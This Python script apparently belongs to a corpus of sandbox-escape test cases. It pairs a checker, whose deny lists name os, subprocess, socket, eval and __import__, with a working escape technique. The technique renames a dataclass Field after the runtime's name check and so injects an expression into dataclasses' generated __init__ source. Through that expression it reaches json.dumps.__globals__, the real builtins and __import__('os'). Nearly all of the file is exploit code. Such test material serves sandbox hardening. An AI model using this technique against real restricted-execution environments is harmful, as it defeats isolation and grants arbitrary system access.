# technique: the runtime checks every dataclass field name once, when @dataclass is applied, and refuses a rename of a Field from the snippet's frame only (Field.__setattr__ looks at its immediate caller); dataclasses._FIELD_BASE.__init__(self, name) is 'self.name = name', so type(field._field_type).__init__(base_field, text) renames any Field from dataclasses' own frame; done from an enum.property's class lookup (ownerclass._member_map_[name], a snippet __getitem__) while dataclasses collects the subclass's fields, after the check and before _init_fn pastes the base field's name into the source it execs: 'a=EXPR,_return_type=None,**k):#' makes EXPR a default of __create_fn__, run unchecked (json.dumps.__globals__, the real builtins, __import__('os'))
# source: dataclasses code generation (exec of Field.name, 106/144) + stdlib methods called with a foreign self (A.m(obj)) as a setattr from a trusted frame + check-then-use window
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import dataclasses, enum, json, typing

GOT = []


@dataclasses.dataclass
class Base:
    a: int = dataclasses.field(default=0, init=False, repr=False, compare=False)


def field_kind(self):
    return self._field_type


FIELD_A = dataclasses.fields(Base)[0]
RENAME = type(field_kind(FIELD_A)).__init__  # dataclasses._FIELD_BASE.__init__
ARMED = [None]


class Members:
    # enum.property.__get__(None, cls) looks the name up in cls._member_map_
    def __getitem__(self, key):
        if ARMED[0] is not None:
            RENAME(FIELD_A, ARMED[0])
        raise KeyError(key)


def generated(expr):
    GOT.clear()
    ARMED[0] = 'a=GOT.append(' + expr + '),_return_type=None,**k):#'

    class Sub(Base):
        _member_map_ = Members()
        hook: typing.ClassVar[int] = enum.property(lambda self: 0)

    try:
        dataclasses.dataclass(Sub)
    finally:
        ARMED[0] = None
        RENAME(FIELD_A, 'a')
    return GOT[-1]

attempt('Field renamed by _FIELD_BASE.__init__ -> json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))
attempt("... json.dumps.__globals__['__builtins__']",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + ']'))
attempt("... __import__('os') from the real builtins",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + '][' +
                          repr(dn('import')) + "]('os')"))
